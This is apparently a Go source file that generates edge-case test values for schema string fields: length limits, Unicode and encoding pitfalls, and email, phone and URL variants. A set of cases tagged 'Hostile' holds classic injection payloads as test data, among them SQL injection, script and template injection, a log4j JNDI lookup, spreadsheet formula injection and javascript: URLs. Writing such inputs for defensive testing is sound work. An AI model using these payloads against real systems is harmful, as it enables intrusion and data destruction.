package edge

import (
	"regexp"
	"strings"
	"unicode/utf8"

	"github.com/seamhq/seam/mapping/schema"
	"github.com/seamhq/seam/mapping/value"
)

func mk(name string, tag Tag, doc string, vals ...value.Value) Case {
	return Case{Name: name, Tag: tag, Doc: doc, Values: vals}
}

// sc is a string case whose values are fitted to the field's max length,
// so that the case tests one thing, not length as well.
func sc(f *schema.Field, name string, tag Tag, doc string, ss ...string) Case {
	vals := make([]value.Value, 0, len(ss))
	seen := map[string]bool{}
	for _, s := range ss {
		s = fit(f, s)
		if !seen[s] {
			seen[s] = true
			vals = append(vals, value.Str(s))
		}
	}
	return Case{Name: name, Tag: tag, Doc: doc, Values: vals}
}

// fit cuts s to f's max length in characters.
func fit(f *schema.Field, s string) string {
	if f.MaxLength == nil || *f.MaxLength < 0 {
		return s
	}
	return TruncRunes(s, *f.MaxLength)
}

// TruncRunes is s cut to its first n characters (runes).
func TruncRunes(s string, n int) string {
	if utf8.RuneCountInString(s) <= n {
		return s
	}
	i := 0
	for k := range s {
		if i == n {
			return s[:k]
		}
		i++
	}
	return s
}

// repeatTo returns n characters cycled from unit, never ending in a space.
func repeatTo(unit string, n int) string {
	if n <= 0 {
		return ""
	}
	rs := []rune(unit)
	out := make([]rune, n)
	for i := range out {
		out[i] = rs[i%len(rs)]
	}
	if out[n-1] == ' ' {
		out[n-1] = 'x'
	}
	if out[0] == ' ' {
		out[0] = 'x'
	}
	return string(out)
}

const asciiUnit = "Lorem ipsum dolor sit amet consectetur adipiscing elit "

// tokens splits a name into lower-case words (schema.NameWords).
func tokens(name string) []string { return schema.NameWords(name) }

func hasToken(f *schema.Field, words ...string) bool {
	for _, t := range tokens(f.Name) {
		for _, w := range words {
			if t == w {
				return true
			}
		}
	}
	return false
}

func lastToken(f *schema.Field) string {
	ts := tokens(f.Name)
	if len(ts) == 0 {
		return ""
	}
	return ts[len(ts)-1]
}

// asText converts cases of another type into text cases for f (a date
// held in a string column gets the date cases as text).
func asText(f *schema.Field, cases []Case) []Case {
	out := cases[:0]
	for _, c := range cases {
		vals := make([]value.Value, 0, len(c.Values))
		for _, v := range c.Values {
			if cv, ok := Convert(v, f); ok {
				vals = append(vals, cv)
			}
		}
		if len(vals) > 0 {
			c.Values = vals
			c.Inferred = true
			out = append(out, c)
		}
	}
	return out
}

// StringKind is the meaning edge reads from a string field's format and
// name: "email", "phone", "url", "uuid", "date", "datetime", "integer",
// "decimal", "id", "country", "currency", or "" for plain text. Text that
// holds dates or numbers also gets the date or number cases, as text.
func StringKind(f *schema.Field) string {
	switch strings.ToLower(f.Format) {
	case "date":
		return "date"
	case "date-time":
		return "datetime"
	case "email", "idn-email":
		return "email"
	case "phone", "tel", "phone-number":
		return "phone"
	case "uri", "url", "iri", "uri-reference":
		return "url"
	case "uuid":
		return "uuid"
	}
	switch {
	case hasToken(f, "email", "mail", "e-mail"):
		return "email"
	case hasToken(f, "phone", "mobile", "mobilephone", "fax", "tel", "telephone", "cell"):
		return "phone"
	case hasToken(f, "url", "website", "homepage", "uri", "link", "href"):
		return "url"
	case hasToken(f, "uuid", "guid"):
		return "uuid"
	case hasToken(f, "currency"):
		return "currency"
	case hasToken(f, "country"):
		return "country"
	case hasToken(f, "name", "title", "description", "notes", "note", "comment", "text"):
		return ""
	case hasToken(f, "date", "day", "dob", "birthdate", "birthday"):
		return "date"
	case hasToken(f, "timestamp", "time", "datetime", "created", "updated", "modified", "createdat", "updatedat") || lastToken(f) == "at":
		return "datetime"
	case hasToken(f, "qty", "quantity", "count", "cents"):
		return "integer"
	case hasToken(f, "amount", "price", "total", "subtotal", "discount", "fee", "tax", "balance", "cost"):
		return "decimal"
	case hasToken(f, "id", "zip", "postal", "postcode", "sku", "code", "no", "number", "num", "account", "ssn", "key"):
		return "id"
	}
	return ""
}

func stringCases(f *schema.Field) []Case {
	var out []Case
	if f.MaxLength != nil && *f.MaxLength >= 0 {
		n := *f.MaxLength
		out = append(out,
			mk("string.at_max_length", Rare, "exactly max length characters (ASCII)", value.Str(repeatTo(asciiUnit, n))),
			mk("string.over_max_length", Edge, "max length + 1 characters: rejected or silently truncated", value.Str(repeatTo(asciiUnit, n+1))),
		)
		if n > 0 {
			out = append(out,
				mk("string.multibyte_at_max_length", Edge, "max length characters of 2-byte letters: fits in characters, over in UTF-8 bytes", value.Str(repeatTo("Ünïcödé ", n))),
				mk("string.utf8_bytes_over_max", Edge, "max length characters, one UTF-8 byte over (one 2-byte letter): VARCHAR(n BYTE) and index limits reject it", value.Str(repeatTo(asciiUnit, n-1)+"é")),
				mk("string.utf16_units_over_max", Edge, "max length characters, one UTF-16 unit over (one emoji): Java, JavaScript and Apex count it as n+1", value.Str(repeatTo(asciiUnit, n-1)+"😀")),
				mk("string.utf16_surrogate_over_max", Edge, "max length astral characters (emoji, math letters): fits in code points, twice over in UTF-16 units and 4x in bytes", value.Str(repeatTo("😀𝐓𝐡𝐞👍", n))),
			)
		}
	}
	if f.MinLength != nil && *f.MinLength > 0 {
		m := *f.MinLength
		out = append(out,
			mk("string.at_min_length", Rare, "exactly min length characters", value.Str(repeatTo(asciiUnit, m))),
			mk("string.under_min_length", Edge, "min length - 1 characters", value.Str(repeatTo(asciiUnit, m-1))),
		)
	}
	if f.Pattern != "" {
		if re, err := regexp.Compile(f.Pattern); err == nil {
			for _, s := range []string{"!!invalid!!", "zz-99", "ZZZ_999", "", "0", "x y"} {
				if !re.MatchString(s) {
					out = append(out, mk("string.pattern_violation", Edge, "a value that does not match the field's pattern "+f.Pattern, value.Str(s)))
					break
				}
			}
		}
	}
	switch StringKind(f) {
	case "email":
		out = append(out, emailCases(f)...)
	case "phone":
		out = append(out, phoneCases(f)...)
	case "url":
		out = append(out, urlCases(f)...)
	case "uuid":
		out = append(out, uuidTextCases(f)...)
	case "date":
		out = append(out, asText(f, dateCases(f))...)
	case "datetime":
		out = append(out, asText(f, timestampCases(f, true))...)
	case "integer":
		out = append(out, asText(f, intCases(&schema.Field{Path: f.Path, Name: f.Name, Type: schema.Integer, Bits: 32, Min: schema.FloatP(0)}))...)
	case "decimal":
		out = append(out, asText(f, decimalCases(&schema.Field{Path: f.Path, Name: f.Name, Type: schema.Decimal, Precision: schema.IntP(12), Scale: schema.IntP(2)}))...)
	case "id":
		out = append(out,
			sc(f, "id.leading_zero", Rare, "code with leading zeros: lost when cast to a number", "000123", "02119", "0042"),
			sc(f, "id.js_unsafe", Edge, "digits beyond 2^53: JSON/JS float parsers change the last digits", "9007199254740993", "12345678901234567890"),
		)
	case "country":
		out = append(out, sc(f, "country.code_variants", Edge, "one country in several code systems: lookups miss", "UK", "GB", "GBR", "United Kingdom", "Åland Islands"))
	case "currency":
		out = append(out, sc(f, "currency.case_variant", Rare, "currency code in lower or mixed case (Stripe sends \"usd\")", "usd", "Eur", "gbp "))
	}
	if cs := strings.ToLower(f.Charset); cs == "latin1" || cs == "ascii" || cs == "iso-8859-1" {
		out = append(out, sc(f, "string.outside_charset", Edge, "characters the "+cs+" charset cannot hold", "日本語テキスト", "€uro", "Łódź", "café"))
	}
	out = append(out,
		sc(f, "string.unicode_combining", Rare, "decomposed (NFD) accents: e + U+0301; equal-looking strings compare unequal", "Jose\u0301 Garci\u0301a", "Zoe\u0308"),
		sc(f, "string.non_ascii", Rare, "real accented names (Chinook): byte length exceeds character length", "Luís Gonçalves", "São José dos Campos", "Köhler"),
		sc(f, "string.leading_trailing_space", Rare, "leading or trailing spaces, incl. no-break space: keys stop matching", " Smith", "Smith  ", "\u00a0Smith"),
		sc(f, "string.quotes_delimiters", Rare, "quotes, commas and tabs: broken CSV quoting and hand-built SQL", "O'Brien", "Smith, John", `say "hi"`, "a\tb"),
		sc(f, "string.emoji", Edge, "emoji with skin tone and ZWJ sequences: 4-byte UTF-8, rejected by MySQL utf8mb3", "👍🏽 ok", "👨‍👩‍👧 family", "🇬🇧"),
		sc(f, "string.rtl", Edge, "right-to-left text and the RLO override", "مرحبا بالعالم", "\u202Eevil.exe", "שלום"),
		sc(f, "string.zero_width", Edge, "invisible characters: zero-width space, BOM, joiner", "Jo\u200Bhn", "\ufeffid", "a\u200Db"),
		sc(f, "string.whitespace_only", Edge, "only white space: passes not-empty, fails not-blank", " ", "\t", "\u00a0"),
		sc(f, "string.null_like", Edge, "text that loaders turn into NULL", "NULL", "null", "N/A", "None", "-"),
		sc(f, "string.numeric_looking", Edge, "text that type inference turns into a number", "00123", "1e5", "0x1F", "1,234.50"),
		sc(f, "string.boolean_looking", Edge, "text that type inference turns into a boolean", "true", "FALSE", "Y", "RUE"),
		sc(f, "string.newline", Edge, "line breaks of every kind inside a value", "a\nb", "a\r\nb", "a\u2028b", "a\u0085b"),
		sc(f, "string.case_changes_length", Edge, "strings whose length changes when upper/lower-cased", "Straße", "İstanbul", "Ⱥlpha"),
		sc(f, "string.homoglyph", Edge, "look-alike letters from other scripts", "p\u0430ypal", "ΑΒΓ"),
		sc(f, "string.mojibake", Edge, "text already double-encoded", "CafÃ©", "donâ€™t"),
		sc(f, "string.reserved_names", Edge, "Windows reserved file names", "CON", "NUL", "COM1"),
		sc(f, "string.formula_injection", Hostile, "spreadsheet formula injection (= + - @)", `=HYPERLINK("http://x","y")`, "+1-2", "@SUM(1)", "-2+3"),
		sc(f, "string.sql_injection", Hostile, "SQL injection payloads", "'; DROP TABLE x;--", "1' OR '1'='1"),
		sc(f, "string.script_injection", Hostile, "HTML, template and log4j injection payloads", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "{{7*7}}"),
		sc(f, "string.control_chars", Hostile, "NUL, terminal escape codes and BEL", "a\x00b", "\x1b[31mred\x1b[0m", "ding\a"),
		mk("string.invalid_utf8", Hostile, "bytes that are not UTF-8 and a lone surrogate's encoding", value.Str("\xc3\x28"), value.Str("ab\xed\xa0\x80")),
		mk("string.very_long", Hostile, "32,769 characters: over Salesforce's 32 KB long-text limit", value.Str(repeatTo(asciiUnit, 32769))),
		mk("string.naughty", Hostile, "the Big List of Naughty Strings (MIT, Max Woolf)", naughtyValues()...),
	)
	return out
}

func emailCases(f *schema.Field) []Case {
	return []Case{
		sc(f, "email.plus_tag", Rare, "plus-tagged address: legal, defeats dedupe", "jane.doe+newsletter@example.com", "a+b@example.org"),
		sc(f, "email.uppercase", Rare, "mixed-case address: domain is case-insensitive, the local part formally not", "John.Doe@Example.COM"),
		sc(f, "email.placeholder", Rare, "placeholder addresses that create false duplicates", "test@test.com", "noemail@example.com"),
		sc(f, "email.idn", Edge, "internationalised address: needs SMTPUTF8/IDNA", "josé@exämple.de", "用户@例子.广告", "user@xn--exmple-cua.de"),
		sc(f, "email.quoted_local", Edge, "quoted local part and IP literal: legal, rejected by strict regexes", `"john doe"@example.com`, "user@[192.0.2.1]"),
		sc(f, "email.invalid", Edge, "not an address", "john@", "john..doe@x.com", "john@x", "john@example.com "),
		sc(f, "email.multiple", Edge, "several addresses in one field", "a@x.com; b@y.com"),
		mk("email.long_local", Edge, "64-character local part", value.Str(strings.Repeat("a", 64)+"@example.com")),
	}
}

func phoneCases(f *schema.Field) []Case {
	return []Case{
		sc(f, "phone.e164", Rare, "E.164 format", "+14155552671", "+442071838750"),
		sc(f, "phone.international", Rare, "national formats with country prefix", "+55 (12) 3923-5555", "+33 1 42 68 53 00"),
		sc(f, "phone.leading_zero", Rare, "national number with leading zero: lost as a number", "07946 123456", "0711 2842222"),
		sc(f, "phone.extension", Edge, "number with an extension", "+1 415 555 2671 ext. 123", "415-555-2671 x123"),
		sc(f, "phone.letters", Edge, "vanity number with letters", "1-800-FLOWERS"),
		sc(f, "phone.trunk_prefix", Edge, "country code plus the domestic trunk 0", "+49 0711 2842222"),
	}
}

func urlCases(f *schema.Field) []Case {
	return []Case{
		sc(f, "url.no_scheme", Edge, "domain without a scheme", "example.com", "www.example.com"),
		sc(f, "url.relative", Edge, "relative path, not a URL without its host", "/services/images/photo/003"),
		sc(f, "url.idn", Edge, "non-ASCII host and unencoded space", "https://bücher.de", "https://x.com/a b"),
		sc(f, "url.ipv6_port", Edge, "IPv6 host with a port", "http://[2001:db8::1]:8080/"),
		sc(f, "url.javascript_scheme", Hostile, "dangerous schemes that execute when rendered", "javascript:alert(1)", "data:text/html,<b>x</b>"),
	}
}
